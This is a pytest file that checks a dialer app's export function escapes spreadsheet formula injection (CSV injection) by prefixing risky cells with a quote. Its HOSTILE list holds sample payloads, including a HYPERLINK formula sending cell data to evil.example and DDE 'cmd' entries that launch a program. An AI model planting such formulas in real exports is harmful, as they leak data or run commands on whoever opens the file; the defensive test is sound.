"""Export cells are escaped against spreadsheet formula injection (OWASP "CSV injection")."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from dialer.export import safe_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-",
    "+",
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("+8613812345678", "+8613812345678"),  # an E.164 number cannot hold a formula
        ("-5", "-5"),
        ("-0.25", "-0.25"),
        ("Li", "Li"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
        (None, ""),
        (True, "yes"),
        (False, "no"),
        (3, "3"),
        (0.87, "0.87"),
        (datetime(2025, 3, 1, 9, 30, tzinfo=UTC), "2025-03-01T09:30:00+00:00"),
    ],
)
def test_safe_values_are_written_as_they_are(value: object, shown: str) -> None:
    assert safe_cell(value) == shown
